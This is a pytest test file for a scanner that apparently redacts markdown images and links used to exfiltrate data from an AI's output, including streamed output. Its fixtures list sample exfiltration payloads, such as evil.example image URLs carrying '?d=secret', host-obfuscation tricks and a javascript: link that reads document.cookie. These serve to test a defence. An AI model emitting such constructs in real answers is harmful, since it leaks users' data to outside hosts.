"""markdown_exfil: which images and links leave an answer, whole or streamed."""

from __future__ import annotations

import asyncio
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.policy import Policy
from bastion.scanners import Decision, ScanContext, Stage, StreamGuard
from bastion.scanners.exfil import MarkdownExfilScanner

from .scanner_helpers import make_pipeline

CTX = ScanContext(stage=Stage.OUTPUT)
SCANNER = MarkdownExfilScanner({"allowed_domains": ["acme.example"]})

REMOVED = [
    ("image with data", "![a](https://evil.example/p.png?d=secret)", "[image removed]"),
    ("image no data", "![a](https://evil.example/logo.png)", "[image removed]"),
    ("image with title", '![a](https://evil.example/x.png "t")', "[image removed]"),
    ("angle destination", "![a](<https://evil.example/a b.png>)", "[image removed]"),
    ("protocol relative", "![a](//evil.example/x.png)", "[image removed]"),
    ("entity in host", "![a](https://evil&#46;example/x.png)", "[image removed]"),
    ("percent host", "![a](https://ev%69l.example/x.png)", "[image removed]"),
    ("userinfo trick", "![a](https://acme.example@evil.example/x)", "[image removed]"),
    ("backslash trick", "![a](https://acme.example\\@evil.example/x)", "[image removed]"),
    ("lookalike suffix", "![a](https://acme.example.evil.example/x)", "[image removed]"),
    ("reference image", "![a][r]\n\n[r]: https://evil.example/x.png", "![a][r]\n\n[image removed]"),
    ("html img", '<img src="https://evil.example/x.png?q=1">', "[image removed]"),
    ("html srcset", "<img srcset='https://evil.example/a.png 2x'>", "[image removed]"),
    ("unterminated image", "see ![a](https://evil.example/x?d=abc", "see [image removed]"),
    ("link with data", "[go](https://evil.example/?q=" + "x" * 30 + ")", "[link removed]"),
    ("link long segment", "[go](https://evil.example/" + "y" * 70 + ")", "[link removed]"),
    ("javascript link", "[go](javascript:alert(document.cookie))", "[link removed]"),
    ("bare url with data", "at https://evil.example/?k=" + "z" * 30 + ".", "at [link removed]."),
    (
        "html link",
        '<a href="https://evil.example/?s=' + "q" * 30 + '">x</a>',
        "[link removed]x</a>",
    ),
    (
        "image in link",
        "[![i](https://evil.example/i.png)](https://acme.example)",
        "[[image removed]](https://acme.example)",
    ),
]


@pytest.mark.parametrize(("label", "text", "expected"), REMOVED, ids=[r[0] for r in REMOVED])
def test_exfiltrating_constructs_are_removed(label: str, text: str, expected: str) -> None:
    """Each construct is redacted with reason exfiltration.markdown."""
    verdict = asyncio.run(
        make_pipeline(
            input=(),
            output=("markdown_exfil",),
            scanners={"markdown_exfil": {"allowed_domains": ["acme.example"]}},
        ).run(Stage.OUTPUT, text, CTX)
    )
    assert verdict.decision is Decision.REDACT
    assert verdict.reasons == ("exfiltration.markdown",)
    assert verdict.text == expected


KEPT = [
    ("allowed image", "![c](https://cdn.acme.example/c.png?id=" + "9" * 40 + ")"),
    ("allowed link", "[guide](https://acme.example/guide#" + "s" * 40 + ")"),
    ("plain link", "[pricing](https://www.example.com/pricing)"),
    ("short query link", "[video](https://video.example/watch?v=dQw4w9WgXcQ)"),
    ("bare url", "Docs: https://docs.python.org/3/library/re.html#module-re."),
    ("relative image", "![local](/static/logo.png)"),
    ("prose brackets", "Use a[i] (the index) and the system [note] here."),
    ("not a link", "[x](foo bar) and array[i](3)"),
    ("mentions system", "The system prompt is confidential; I cannot share it."),
    ("mailto", "[mail](mailto:help@example.com)"),
]


@pytest.mark.parametrize(("label", "text"), KEPT, ids=[r[0] for r in KEPT])
def test_near_misses_are_kept(label: str, text: str) -> None:
    """Allowed hosts, links without data and plain prose pass untouched."""
    assert SCANNER.scan(text, CTX).decision is Decision.ALLOW


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"allowed_domains": "acme.example"}, "allowed_domains"),
        ({"allowed_domains": ["https://acme.example/"]}, "allowed_domains"),
        ({"max_value_chars": 2}, "max_value_chars"),
        ({"allow": []}, "allow"),
    ],
)
def test_bad_options_name_the_option(options: dict[str, object], named: str) -> None:
    """A bad option fails at build time, naming itself."""
    with pytest.raises(ValueError, match=named):
        MarkdownExfilScanner(options)


def test_default_policy_runs_the_scanner() -> None:
    """markdown_exfil is in the default output stage."""
    assert "markdown_exfil" in Policy().output


def _chunks(text: str, cuts: list[int]) -> list[str]:
    points = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    return [text[a:b] for a, b in itertools.pairwise(points)]


async def _stream(chunks: list[str]) -> str:
    guard = StreamGuard(make_pipeline(input=(), output=("markdown_exfil",)), CTX, 16)
    released = [await guard.feed(chunk) for chunk in chunks]
    released.append(await guard.finish())
    assert not guard.blocked
    return "".join(released)


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet="abc XYZ.,\n", max_size=300),
    st.integers(min_value=0, max_value=600),
    st.lists(st.integers(min_value=0), max_size=40),
)
def test_streamed_image_never_escapes(before: str, size: int, cuts: list[int]) -> None:
    """However the stream is cut and however long the URL, no byte of it is released."""
    url = "https://evil.example/p.png?d=" + "Q" * size
    text = f"{before} ![alt]({url}) tail"
    released = asyncio.run(_stream(_chunks(text, cuts)))
    assert released == f"{before} [image removed] tail"
